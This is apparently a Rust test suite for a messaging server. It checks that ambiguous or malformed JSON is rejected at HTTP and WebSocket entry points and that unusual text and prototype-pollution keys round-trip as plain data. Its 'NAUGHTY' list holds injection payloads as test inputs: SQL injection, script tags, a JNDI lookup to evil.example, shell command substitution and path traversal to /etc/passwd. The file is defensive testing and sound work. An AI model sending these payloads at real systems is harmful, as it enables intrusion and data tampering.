//! What is sent as JSON and as text, over HTTP and on the connection.

use serde_json::{Value, json};

use crate::kit::{GENERAL, RawSocket, TEXT, TestServer, at, masked};

/// Values that two parsers could read differently, or that not every client could read back.
fn refused_values() -> Vec<(&'static str, String)> {
    vec![
        ("a duplicate key", r#"{"role":"user","role":"admin"}"#.to_owned()),
        ("a duplicate key, escaped", r#"{"role":"user","r\u006fle":"admin"}"#.to_owned()),
        ("NUL", r#""a\u0000b""#.to_owned()),
        ("NUL in a key", r#"{"a\u0000":1}"#.to_owned()),
        ("2^53 + 1", "9007199254740993".to_owned()),
        ("-2^53 - 1", "-9007199254740993".to_owned()),
        ("2^64", "18446744073709551616".to_owned()),
        ("30 digits", "123456789012345678901234567890".to_owned()),
        ("1e400", "1e400".to_owned()),
        ("-1e400", "-1e400".to_owned()),
        ("NaN", "NaN".to_owned()),
        ("Infinity", "Infinity".to_owned()),
        ("a lone high surrogate", r#""\ud800""#.to_owned()),
        ("a lone low surrogate", r#""\udc00x""#.to_owned()),
        ("surrogates in the wrong order", r#""\udc00\ud800""#.to_owned()),
        ("a trailing comma", "[1,]".to_owned()),
        ("a comment", "1/* */".to_owned()),
        ("a single quote", "'a'".to_owned()),
        ("a leading zero", "01".to_owned()),
        ("a raw line feed", "\"a\nb\"".to_owned()),
        ("an unknown escape", r#""\x41""#.to_owned()),
        ("depth 33", format!("{}1{}", "[".repeat(31), "]".repeat(31))),
        ("depth 33 of objects", format!("{}1{}", r#"{"a":"#.repeat(31), "}".repeat(31))),
        ("depth 200", format!("{}1{}", "[".repeat(200), "]".repeat(200))),
        ("depth 20,000", "[".repeat(20_000)),
    ]
}

#[tokio::test]
async fn what_two_parsers_could_read_differently_is_refused_at_both_doors_f2_5() {
    let server = TestServer::with(|config| config.limits.connections_per_user = Some(1_000)).await;
    server.knows(&["alice"]).await;
    let alice = server.user("alice");
    alice.makes(GENERAL, &[]).await;
    let head = alice.get(&at(GENERAL)).await.ok()["head"].clone();
    for (what, value) in refused_values() {
        // Two levels deep, with the message around it.
        let body = format!(r#"{{"message":{{"text":"a","x":{value}}}}}"#);
        let path = at("messaging:general/messages");
        let error = alice.asks("POST", &path, Some(body.as_bytes())).await.refused("invalid_json");
        assert!(error["message"].as_str().is_some_and(|text| text.len() < 500), "{what}: {error}");
        let body = format!(r#"{{"set":{{"x":{value}}}}}"#);
        alice.asks("PATCH", "/v1/users/alice", Some(body.as_bytes())).await.refused("invalid_json");

        let mut hello = alice.hello_with(json!({"user": {"id": "alice"}})).to_string();
        hello = hello.replace(r#""id":"alice""#, &format!(r#""id":"alice","x":{value}"#));
        let mut socket = RawSocket::upgrade(server.address).await;
        socket.sends(&masked(TEXT, hello.as_bytes())).await;
        let (code, said) = socket.closed().await;
        assert_eq!(
            (code, &said[0]["error"]["code"]),
            (Some(4000), &json!("invalid_json")),
            "{what}: {said:?}"
        );
    }
    assert_eq!(alice.get(&at(GENERAL)).await.ok()["head"], head, "nothing changed");
    assert_eq!(alice.sees("alice").await.unwrap().get("x"), None);
    server.lives().await;
}

#[tokio::test]
async fn it_is_refused_at_every_other_door_of_users_too_f2_5_f2_8() {
    let server = TestServer::with_users(&["alice"]).await;
    let (alice, backend) = (server.user("alice"), server.backend());
    let hello = alice.hello_with(json!({"user": {"id": "alice", "x": 0}})).to_string();
    for (what, value) in refused_values() {
        let in_hello = hello.replace(r#""x":0"#, &format!(r#""x":{value}"#));
        assert_ne!(hello, in_hello);
        for (person, method, path, body) in [
            (&backend, "POST", "/v1/users", format!(r#"{{"users":[{{"id":"alice","x":{value}}}]}}"#)),
            (&backend, "PATCH", "/v1/users/alice", format!(r#"{{"set":{{"x":{value}}},"unset":[]}}"#)),
            (&alice, "POST", "/v1/users/query", format!(r#"{{"filter":{{"name":{{"$in":{value}}}}}}}"#)),
            (&alice, "POST", "/v1/devices", format!(r#"{{"id":"x","provider":{{"a":{{"b":{value}}}}}}}"#)),
            (&alice.with_header("Accept", "text/event-stream"), "POST", "/v1/connect", in_hello.clone()),
            (&alice.with_header("Accept", "application/json"), "POST", "/v1/connect", in_hello),
        ] {
            let answer = person.asks(method, path, Some(body.as_bytes())).await;
            assert_eq!(answer.status, 400, "{what} at {path}: {}", answer.text());
            assert_eq!(answer.json()["error"]["code"], "invalid_json", "{what} at {path}");
        }
    }
    assert_eq!(backend.sees("alice").await.unwrap().get("x"), None);
    assert_eq!(alice.get("/v1/devices").await.ok()["devices"], json!([]));
    server.lives().await;
}

/// Texts that the grammar has, and such that it almost has. None is more than a value.
const VALUES: &[&str] = &[
    "0",
    "-0",
    "1",
    "-1",
    "10",
    "0.0",
    "-0.5",
    "1e1",
    "1E1",
    "1e+1",
    "1e-1",
    "0e0",
    "1.5e-10",
    "true",
    "false",
    "null",
    "\"\"",
    "\"a\"",
    "\"\\u0041\"",
    "\"\\ud83d\\ude00\"",
    "\"\\\"\\\\\\/\\b\\f\\n\\r\\t\"",
    "\"\u{7f}\"",
    "\"\u{2028}\"",
    "\"\u{10ffff}\"",
    "[]",
    "[ ]",
    "[0]",
    "[0,1]",
    "[[],{}]",
    "{}",
    "{ }",
    "{\"a\":0}",
    "{\"a\":0,\"b\":1}",
    "{\"\":0}",
    "\t\n\r 0 ",
];
const NO_VALUES: &[&str] = &[
    "",
    " ",
    "+1",
    "-",
    "--1",
    "1.",
    ".5",
    "1e",
    "1e+",
    "1.e1",
    "0x1",
    "00",
    "-01",
    "1 2",
    "1_000",
    "Infinity",
    "-Infinity",
    "nan",
    "True",
    "NULL",
    "tru",
    "nul",
    "'a'",
    "\"",
    "\"a",
    "a\"",
    "\"\\a\"",
    "\"\\u00\"",
    "\"\\u00g0\"",
    "\"\\uD800\"",
    "\"\\uD800\\u0041\"",
    "\"\\uDC00\"",
    "\"\t\"",
    "\"\n\"",
    "\"\u{1f}\"",
    "\"\u{0}\"",
    "[",
    "]",
    "[,]",
    "[0,]",
    "[,0]",
    "[0 1]",
    "[0,,1]",
    "[0}",
    "{",
    "}",
    "{,}",
    "{0:0}",
    "{a:0}",
    "{'a':0}",
    "{\"a\"}",
    "{\"a\":}",
    "{\"a\" 0}",
    "{\"a\":0,}",
    "{,\"a\":0}",
    "{\"a\":0 \"b\":1}",
    "{\"a\":0]",
    "{\"a\"::0}",
    "0//",
    "/**/0",
    "0#",
    "\u{feff}0",
    "\u{a0}0",
    "\u{c}0",
    "\u{b}0",
    "\u{2028}0",
    "undefined",
    "(0)",
    "0;",
    "@",
];

#[tokio::test]
async fn what_is_no_json_is_refused_and_what_is_comes_back_f2_5_f2_6() {
    let server = TestServer::with_users(&["alice"]).await;
    let alice = server.user("alice");
    let sets = async |value: &str| {
        let body = format!(r#"{{"set":{{"x":{value}}}}}"#);
        alice.asks("PATCH", "/v1/users/alice", Some(body.as_bytes())).await
    };
    for value in VALUES {
        let meant: Value = serde_json::from_str(value).unwrap();
        let kept = sets(value).await.ok()["user"]["x"].clone();
        // A number is what it counts, however it is written.
        let same = kept == meant || (meant.is_number() && kept.as_f64() == meant.as_f64());
        assert!(same, "{value:?}: {kept}");
    }
    for bad in NO_VALUES {
        sets(bad).await.refused("invalid_json");
    }
    server.lives().await;
}

#[tokio::test]
async fn what_every_client_can_read_back_comes_back_as_it_was_f2_6() {
    let server = TestServer::with_users(&["alice"]).await;
    let alice = server.user("alice");
    alice.makes(GENERAL, &[]).await;
    let mut live = alice.connects().await;
    let deep = serde_json::from_str(&format!("{}1{}", "[".repeat(30), "]".repeat(30))).unwrap();
    for value in [
        json!(9_007_199_254_740_992_u64),
        json!(-9_007_199_254_740_992_i64),
        json!(0.1),
        json!(-0.5e-7),
        json!(null),
        json!(true),
        json!({}),
        json!([[], {}, [null]]),
        json!({"z": 1, "a": {"z": [1, 2], "b": "x"}}),
        json!({"__proto__": {"admin": true}, "constructor": 1, "toString": "x", "hasOwnProperty": null}),
        json!({"": 1}),
        json!({"key with spaces \" and \\ quotes": "a"}),
        deep,
    ] {
        let message = json!({"message": {"text": "a", "x": value}});
        let sent = alice.post(&at("messaging:general/messages"), message).await.ok_with(201);
        assert_eq!(sent["message"]["x"], value);
        assert_eq!(live.hears("message.new").await["event"]["message"]["x"], value);
        let user = alice.patch("/v1/users/alice", json!({"set": {"x": value}})).await.ok();
        assert_eq!(user["user"]["x"], value);
        let channel = alice.patch(&at(GENERAL), json!({"set": {"x": value}})).await.ok();
        assert_eq!(channel["channel"]["x"], value);
    }
    let page = alice.get(&at("messaging:general/messages?limit=100")).await.ok();
    assert_eq!(page["messages"].as_array().unwrap().len(), 13);
}

#[tokio::test]
async fn names_that_mean_something_elsewhere_are_plain_names_here() {
    let server = TestServer::start().await;
    let names = [
        "__proto__",
        "constructor",
        "tostring",
        "hasownproperty",
        "null",
        "undefined",
        "nan",
        "true",
        "0",
        "-1",
    ];
    server.knows(&names).await;
    for name in names {
        let user = server.user(name);
        let live =
            user.connects_as(json!({"id": name, "__proto__": {"role": "admin"}, "constructor": name})).await;
        let me = &live.ready["me"];
        assert_eq!(
            (&me["id"], &me["role"], &me["constructor"]),
            (&json!(name), &json!("user"), &json!(name))
        );
        let cid = format!("messaging:{name}");
        user.makes(&cid, &[]).await;
        assert_eq!(user.sends_as(&cid, name, name).await.ok_with(201)["message"]["id"], name);
        assert_eq!(user.get(&at(&format!("{cid}/messages/{name}"))).await.ok()["message"]["text"], name);
        let data = json!({"set": {"__proto__": {"x": 1}, "constructor": {"prototype": 1}}});
        assert_eq!(user.patch(&at(&cid), data).await.ok()["channel"]["__proto__"], json!({"x": 1}));
    }
}

/// Texts that have broken somebody's program.
const NAUGHTY: &[&str] = &[
    "undefined",
    "NULL",
    "(null)",
    "true",
    "1.7976931348623157e308",
    "0x0",
    "1;DROP TABLE users",
    "1'; DROP TABLE messages-- 1",
    "' OR 1=1 -- 1",
    "%",
    "_",
    "\\",
    "\\\\",
    "\"'`",
    "<script>alert(0)</script>",
    "<img src=x onerror=alert(0) />",
    "$HOME ${jndi:ldap://evil.example/a} $(touch /tmp/blns.fail) `ls`",
    "{{7*7}} {0} %s %d %n %x %@",
    "../../../../../../etc/passwd%00",
    "--help",
    "Ω≈ç√∫˜µ≤≥÷ åß∂ƒ©˙∆˚¬…æ œ∑´®†¥¨ˆøπ“‘",
    "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ̖t̝͕̳̣̻̪͞h̼͓̲̦̳̘̲e͇̣̰̦̬͎",
    "田中さんにあげて下さい 사회과학원 어학연구소 ﺎﻠﺘﺤﻤﻟ",
    "مُنَاقَشَةُ سُبُلِ اِسْتِخْدَامِ اللُّغَةِ",
    "👩🏽 👨‍👩‍👧‍👦 🏳️‍🌈 🇺🇸🇷🇺 ✋🏿",
    "\u{202e}right to left\u{202c} \u{2066}isolate\u{2069}",
    "zero\u{200b}width\u{200d}joiner\u{feff}",
    "line\u{2028}paragraph\u{2029}next\u{85}",
    "\u{1}\u{2}\u{7}\u{8}\u{b}\u{1b}[31mred\u{7f}",
    "tab\tnew\nline\r\nend",
    "\u{fffd}\u{fffe}\u{ffff}\u{10ffff}\u{e000}",
    "I\u{307}İıſKÅﬁ ẞ",
    "Powerلُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗",
    "e\u{301} é",
];

#[tokio::test]
async fn every_text_comes_back_as_it_was_sent() {
    let server = TestServer::with_users(&["alice", "bob"]).await;
    let (alice, bob) = (server.user("alice"), server.user("bob"));
    alice.makes(GENERAL, &["bob"]).await;
    let mut live = bob.connects().await;
    let marks = format!("a{}", "\u{301}".repeat(1_000));
    let texts: Vec<&str> = NAUGHTY.iter().copied().chain([marks.as_str()]).collect();
    for text in &texts {
        let sent = alice.sends(GENERAL, text).await;
        assert_eq!(sent["text"], *text);
        live.hears_text(text).await;
        let user = alice.patch("/v1/users/alice", json!({"set": {"name": text, "x": {*text: 1}}})).await.ok();
        assert_eq!((&user["user"]["name"], &user["user"]["x"]), (&json!(text), &json!({*text: 1})));
        alice.patch(&at(GENERAL), json!({"set": {"name": text}})).await.ok();
        if text.len() <= 1_000 {
            let found = bob.post("/v1/channels", json!({"filter": {"name": text}})).await.ok();
            assert_eq!(found["channels"].as_array().unwrap().len(), 1, "{text:?} is found by itself");
        }
        // As an id it is refused, or it is one.
        let answer = alice.sends_as(GENERAL, text, "x").await;
        assert!(matches!(answer.status, 201 | 400), "{text:?}: {answer:?}");
    }
    let page = bob.get(&at("messaging:general/messages?limit=100")).await.ok();
    let stored: Vec<&str> = page["messages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["text"].as_str().unwrap())
        .filter(|text| *text != "x")
        .collect();
    assert_eq!(stored, texts);
    // A search for what stands for anything finds only itself.
    alice.patch(&at(GENERAL), json!({"set": {"name": "plain"}})).await.ok();
    for wild in ["%", "_", "*", "p%n", "pl_in", "\\"] {
        let filter = json!({"filter": {"name": {"$autocomplete": wild}}});
        let found: Value = bob.post("/v1/channels", filter).await.ok();
        assert_eq!(found["channels"], json!([]), "{wild}");
    }
}
